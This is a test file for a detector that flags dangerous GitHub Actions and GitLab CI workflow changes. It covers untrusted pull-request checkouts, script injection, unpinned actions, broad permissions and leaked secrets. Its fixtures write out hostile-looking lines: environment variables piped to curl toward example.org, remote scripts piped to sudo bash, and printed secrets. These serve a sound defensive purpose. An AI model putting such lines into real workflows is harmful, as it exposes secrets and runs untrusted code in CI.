// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of GitHub workflows
import { describe, expect, it } from "vitest";
import { findDangerousWorkflow } from "../../../src/checks/find-dangerous-workflow.ts";
import { buildChange, type Known } from "../../fakes/build-change.ts";

const PATH = ".github/workflows/ci.yml";
const SHA = "0123456789abcdef0123456789abcdef01234567";

interface Case {
  readonly name: string;
  readonly base?: string | null;
  readonly head: string;
  readonly path?: string;
  readonly known?: Known;
  /** rule @ side line severity confidence */
  readonly found: readonly string[];
}

function run({ base = null, head, path = PATH, known = "whole" }: Case): string[] {
  return findDangerousWorkflow(buildChange([{ path, base, head }], known)).map(
    (one) => `${one.rule} @ ${one.place.side} ${one.place.startLine} ${one.severity} ${one.confidence}`,
  );
}

function workflow(on: string, steps: readonly string[], extra: readonly string[] = []): string {
  return [
    `on: ${on}`,
    "jobs:",
    "  build:",
    "    runs-on: ubuntu-24.04",
    ...extra.map((line) => `    ${line}`),
    "    steps:",
    ...steps.map((line) => `      ${line}`),
    "",
  ].join("\n");
}

const CHECKOUT_HEAD = [
  "- uses: actions/checkout@v4",
  "  with:",
  "    ref: ${{ github.event.pull_request.head.sha }}",
];

const CASES: readonly Case[] = [
  {
    name: "reports a privileged checkout of the head with later commands",
    head: workflow("pull_request_target", [...CHECKOUT_HEAD, "- run: npm ci"]),
    found: ["workflow.untrusted-checkout @ RIGHT 8 critical certain"],
  },
  {
    name: "reports it a step lower when nothing runs afterwards",
    head: workflow("[push, workflow_run]", [
      "- uses: actions/checkout@v4",
      "  with: { ref: '${{ github.event.workflow_run.head_sha }}' }",
    ]),
    found: ["workflow.untrusted-checkout @ RIGHT 7 high pattern"],
  },
  {
    name: "places it at the trigger when only the trigger is new",
    base: workflow("pull_request", [...CHECKOUT_HEAD, "- run: npm ci"]),
    head: workflow("pull_request_target", [...CHECKOUT_HEAD, "- run: npm ci"]),
    found: ["workflow.untrusted-checkout @ RIGHT 1 critical certain"],
  },
  {
    name: "places it at the removed guard when only the guard went away",
    base: workflow(
      "pull_request_target",
      [...CHECKOUT_HEAD, "- run: npm ci"],
      ["if: github.event.pull_request.head.repo.full_name == github.repository"],
    ),
    head: workflow("pull_request_target", [...CHECKOUT_HEAD, "- run: npm ci"]),
    found: ["workflow.untrusted-checkout @ LEFT 5 critical certain"],
  },
  {
    name: "lowers it when a label asks for consent",
    head: workflow(
      "pull_request_target",
      [...CHECKOUT_HEAD, "- run: npm ci"],
      ["if: contains(github.event.pull_request.labels.*.name, 'safe')"],
    ),
    found: ["workflow.untrusted-checkout @ RIGHT 9 high pattern"],
  },
  {
    name: "reports gh pr checkout on issue_comment",
    head: workflow("issue_comment", ["- run: |", "    gh pr checkout 3", "    npm ci", "    npm test"]),
    found: ["workflow.untrusted-checkout @ RIGHT 7 critical certain"],
  },
  {
    name: "reports git fetch of a pull reference",
    head: workflow("pull_request_target", ["- run: git fetch origin pull/3/head", "- run: make"]),
    found: ["workflow.untrusted-checkout @ RIGHT 6 critical certain"],
  },
  {
    name: "is silent on the same checkout under pull_request",
    head: workflow("pull_request", [...CHECKOUT_HEAD, "- run: npm ci"]),
    found: [],
  },
  {
    name: "is silent on a privileged checkout of the base",
    head: workflow("pull_request_target", ["- uses: actions/checkout@v4", "- run: npm ci"]),
    found: [],
  },
  {
    name: "reports a title in a multi-line script at its own line",
    head: workflow("issues", ["- run: |", "    set -e", '    echo "${{ github.event.issue.title }}"']),
    found: ["workflow.script-injection @ RIGHT 8 high certain"],
  },
  {
    name: "knows other spellings of the same context",
    head: workflow("pull_request", [
      "- run: echo ${{ github['event']['pull_request'].Body }}",
      "- run: echo ${{ github.event.commits[0].message }}",
      "- run: echo ${{ toJSON(github.event) }}",
      "- run: echo ${{ github.head_ref || github.ref_name }}",
    ]),
    found: [6, 7, 8, 9].map((line) => `workflow.script-injection @ RIGHT ${line} medium certain`),
  },
  {
    name: "reports the script of actions/github-script",
    head: workflow("issue_comment", [
      "- uses: actions/github-script@v7",
      "  with:",
      "    script: |",
      "      const text = `${{ github.event.comment.body }}`;",
    ]),
    found: ["workflow.script-injection @ RIGHT 9 high certain"],
  },
  {
    name: "reports an old injection when its workflow becomes privileged",
    base: workflow("pull_request", ["- run: echo ${{ github.head_ref }}"]),
    head: workflow("pull_request_target", ["- run: echo ${{ github.head_ref }}"]),
    found: ["workflow.script-injection @ RIGHT 1 high certain"],
  },
  {
    name: "is silent on comparisons, tests, numbers and environment variables",
    head: workflow("pull_request", [
      "- run: echo ${{ github.event.pull_request.title == 'x' }} ${{ contains(github.head_ref, 'a') }}",
      "- run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ 'github.head_ref' }}",
      '- run: echo "$TITLE"',
      "  env:",
      "    TITLE: ${{ github.event.pull_request.title }}",
    ]),
    found: [],
  },
  {
    name: "reports inputs of a composite action",
    path: "tools/setup/action.yml",
    head: "runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.name }}\n      shell: bash\n",
    found: ["workflow.input-injection @ RIGHT 4 medium pattern"],
  },
  {
    name: "weighs an input that only people with write access give as low",
    head: workflow("workflow_dispatch", ["- run: echo ${{ inputs.name }}"]),
    found: ["workflow.input-injection @ RIGHT 6 low pattern"],
  },
  {
    name: "reports outsiders' text that goes to GITHUB_ENV through a variable",
    head: workflow("issues", [
      '- run: echo "TITLE=$BODY" >> "$GITHUB_ENV"',
      "  env:",
      "    BODY: ${{ github.event.issue.body }}",
    ]),
    found: ["workflow.environment-injection @ RIGHT 6 high certain"],
  },
  {
    name: "reports new third-party actions by tag, not by commit and not of the platform",
    head: workflow("push", [
      "- uses: someone/tool@v1",
      `- uses: someone/other@${SHA}`,
      "- uses: actions/setup-node@v4",
      "- uses: ./local",
      "- uses: docker://alpine:3.20",
    ]),
    found: [
      "workflow.unpinned-action @ RIGHT 6 medium certain",
      "workflow.unpinned-image @ RIGHT 10 low certain",
    ],
  },
  {
    name: "is silent on an ordinary update of a tag or a pin",
    base: workflow("push", ["- uses: someone/tool@v1", `- uses: a/b@${SHA} # v1`]),
    head: workflow("push", ["- uses: someone/tool@v2", `- uses: a/b@${SHA.replaceAll("0", "f")} # v2`]),
    found: [],
  },
  {
    name: "reports a pin that became a tag",
    base: workflow("push", [`- uses: a/b@${SHA}`]),
    head: workflow("push", ["- uses: a/b@v2"]),
    found: ["workflow.pin-removed @ RIGHT 6 medium certain"],
  },
  {
    name: "reports write-all and write scopes under a privileged trigger",
    head: workflow(
      "pull_request_target",
      ["- run: make"],
      ["permissions:", "  contents: write", "  issues: write"],
    ),
    found: ["workflow.privileged-write @ RIGHT 6 medium pattern"],
  },
  {
    name: "reports write-all",
    head: workflow("push", ["- run: make"], ["permissions: write-all"]),
    found: ["workflow.write-all @ RIGHT 5 medium certain"],
  },
  {
    name: "is silent on write scopes of a push workflow",
    head: workflow("push", ["- run: make"], ["permissions:", "  contents: write"]),
    found: [],
  },
  {
    name: "reports a removed permissions block at the base",
    base: `permissions:\n  contents: read\n${workflow("push", ["- run: make"])}`,
    head: workflow("push", ["- run: make"]),
    found: ["workflow.permissions-removed @ LEFT 1 medium certain"],
  },
  {
    name: "is silent when the block moved into every job",
    base: `permissions:\n  contents: read\n${workflow("push", ["- run: make"])}`,
    head: workflow("push", ["- run: make"], ["permissions:", "  contents: read"]),
    found: [],
  },
  {
    name: "reports secrets: inherit to another repository only",
    head: "on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/x.yml@main\n    secrets: inherit\n  b:\n    uses: ./.github/workflows/y.yml\n    secrets: inherit\n",
    found: [
      "workflow.secrets-inherited @ RIGHT 5 medium certain",
      "workflow.unpinned-action @ RIGHT 4 medium certain",
    ],
  },
  {
    name: "reports toJSON(secrets)",
    head: workflow("push", ["- run: make", "  env:", "    ALL: ${{ toJSON(secrets) }}"]),
    found: ["workflow.all-secrets @ RIGHT 8 high certain"],
  },
  {
    name: "reports printed and encoded secrets, not those handed to a command or file",
    head: workflow("push", [
      "- run: |",
      "    echo ${{ secrets.A }}",
      "    echo ${{ secrets.A }} | base64",
      "    env | curl -d @- https://example.org",
      "    echo ${{ secrets.A }} | docker login --password-stdin",
      '    echo "${{ secrets.A }}" | base64 -d > key.json',
      "    tool --token ${{ secrets.A }}",
    ]),
    found: [7, 8, 9].map((line) => `workflow.secret-printed @ RIGHT ${line} high pattern`),
  },
  {
    name: "reports a self-hosted runner on pull_request, not on push",
    head: "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n",
    found: ["workflow.self-hosted-pull-request @ RIGHT 4 medium pattern"],
  },
  {
    name: "is silent about a self-hosted runner on push",
    head: "on: push\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n",
    found: [],
  },
  {
    name: "reports unsecure commands",
    head: workflow("push", ["- run: make", "  env:", "    ACTIONS_ALLOW_UNSECURE_COMMANDS: true"]),
    found: ["workflow.unsecure-commands @ RIGHT 8 high certain"],
  },
  {
    name: "reports an artifact of the whole checkout with its token",
    head: workflow("push", [
      "- uses: actions/checkout@v4",
      "- uses: actions/upload-artifact@v4",
      "  with:",
      "    path: .",
    ]),
    found: ["workflow.artifact-credentials @ RIGHT 9 medium pattern"],
  },
  {
    name: "is silent when the token is not kept",
    head: workflow("push", [
      "- uses: actions/checkout@v4",
      "  with: { persist-credentials: false }",
      "- uses: actions/upload-artifact@v4",
      "  with: { path: . }",
    ]),
    found: [],
  },
  {
    name: "reports downloaded scripts over several lines and other shells",
    head: workflow("push", [
      "- run: |",
      "    curl -sSf https://example.org/i.sh \\",
      "      | sudo bash -s -- -y",
      "    bash <(curl -s http://example.org/i.sh)",
      "    curl -s https://example.org/x.json | jq .",
      "    curl -o f.tgz https://example.org/f.tgz && sh build.sh",
    ]),
    found: ["ci.remote-script @ RIGHT 7 medium pattern", "ci.remote-script @ RIGHT 9 high pattern"],
  },
  {
    name: "reports downloaded scripts of other CI systems",
    path: ".gitlab-ci.yml",
    head: "build:\n  script:\n    - curl -s https://example.org/i | sh\n",
    found: ["ci.remote-script @ RIGHT 3 medium pattern"],
  },
  {
    name: "is silent on old problems in lines that did not change",
    base: workflow("issues", ["- run: echo ${{ github.event.issue.title }}"]),
    head: workflow("issues", ["- run: echo ${{ github.event.issue.title }}", "- run: make"]),
    found: [],
  },
  {
    name: "is silent on an old problem that only moved to another indentation",
    base: workflow("issues", ["- run: |", "    echo ${{ github.event.issue.title }}"]),
    head: workflow("issues", ["- run: |", "      echo ${{ github.event.issue.title }}"]),
    found: [],
  },
  {
    name: "follows aliases to steps and says one thing once",
    head: "on: issues\njobs:\n  a:\n    runs-on: x\n    steps: &s\n      - run: echo ${{ github.event.issue.title }}\n  b:\n    runs-on: x\n    steps: *s\n",
    found: ["workflow.script-injection @ RIGHT 6 high certain"],
  },
];

describe("findDangerousWorkflow", () => {
  it.each(CASES)("$name", (one) => {
    expect(run(one)).toEqual(one.found);
  });

  it("gives a whole finding with the quotation of its lines", () => {
    const change = buildChange([
      { path: PATH, base: null, head: workflow("push", [`- uses: someone/tool@v1`]) },
    ]);
    expect(findDangerousWorkflow(change)).toEqual([
      {
        title: "Third-party action is not pinned to a commit",
        cwe: "CWE-829",
        severity: "medium",
        confidence: "certain",
        source: "check",
        rule: "workflow.unpinned-action",
        place: {
          file: 0,
          path: PATH,
          side: "RIGHT",
          startLine: 6,
          endLine: 6,
          quote: "      - uses: someone/tool@v1",
        },
        explanation: "`someone/tool@v1` is named by a tag or branch that its owner can move at any time.",
        attack: expect.stringContaining("Whoever can move the tag"),
        fix: expect.stringContaining("full commit SHA"),
      },
    ]);
  });
});
